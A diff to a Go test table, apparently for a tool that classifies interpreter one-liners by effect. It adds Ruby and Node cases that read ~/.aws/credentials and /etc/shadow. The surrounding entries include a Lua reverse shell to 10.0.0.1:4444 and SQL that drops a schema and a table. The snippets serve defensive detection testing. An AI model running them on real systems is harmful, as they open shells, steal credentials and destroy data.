@@ -464,6 +464,8 @@ async def main():
 	{"lua", `local s=require("socket"); local t=assert(s.tcp()); t:connect("10.0.0.1",4444); while true do local r=t:receive(); local f=io.popen(r) end`,
 		[]string{"unknown", "download 10.0.0.1:4444 | sh"}},
 	{"lua", `print("hello")`, []string{"unknown"}},
+	{"ruby", `puts File.read(File.expand_path("~/.aws/credentials"))`, []string{"read /home/a/.aws/credentials"}},
+	{"node", `const path = require("path"); require("fs").readFileSync(path.join("/etc", "shadow"))`, []string{"read /etc/shadow"}},
 	{"python", `import psycopg2; psycopg2.connect("host=db").cursor().execute("DROP SCHEMA public CASCADE")`,
 		[]string{"run sql DROP SCHEMA public CASCADE"}},
 	{"python", "import sqlite3\ncon = sqlite3.connect(\"dev.db\")\ncon.execute(\"DROP TABLE IF EXISTS t\")",
